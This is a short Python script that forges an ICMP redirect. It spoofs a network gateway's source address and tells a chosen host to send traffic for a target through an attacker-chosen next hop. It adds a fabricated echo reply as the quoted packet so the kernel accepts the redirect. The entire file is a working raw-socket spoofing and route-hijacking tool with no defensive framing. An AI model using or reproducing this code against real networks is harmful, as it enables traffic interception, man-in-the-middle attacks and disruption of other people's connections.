"""One forged ICMP redirect (RFC 792): redirect.py GATEWAY RELAY TARGET NEW, as root at a member of the overlay.

It says that it is the gateway's, and that TARGET is reached by NEW from now on. Of the packet that it answers it shows
an echo reply, because the kernel looks for no socket that would have sent one.
"""

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source: str, target: str, payload: bytes) -> bytes:
    """An IPv4 packet that carries ICMP; the checksum is the kernel's."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, socket.IPPROTO_ICMP, 0) + addresses
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def icmp(kind: int, code: int, rest: bytes) -> bytes:
    """An ICMP message."""
    message = struct.pack("!BBH", kind, code, 0) + rest
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def main() -> None:
    """Send it."""
    gateway, relay, target, new = sys.argv[1:5]
    asked = ip(relay, target, icmp(0, 0, bytes(12)))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(ip(gateway, relay, icmp(5, 1, socket.inet_aton(new) + asked)), (relay, 0))


if __name__ == "__main__":
    main()
